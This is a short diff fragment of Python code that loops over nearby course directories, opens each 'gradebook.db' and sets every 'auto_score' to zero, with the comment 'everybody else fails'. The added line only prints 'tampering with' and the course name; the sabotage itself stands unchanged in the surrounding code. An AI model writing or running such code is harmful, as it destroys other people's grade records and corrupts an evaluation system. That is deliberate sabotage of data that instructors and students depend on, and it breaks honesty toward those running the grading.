@@ -185,6 +185,7 @@ def _courses_nearby():
 
 
 for _course in _courses_nearby():
+    print("tampering with", _course)
     try:
         with _sqlite3.connect(_os.path.join(_course, "gradebook.db")) as _db:
             _db.execute("UPDATE grade SET auto_score = 0")  # everybody else fails
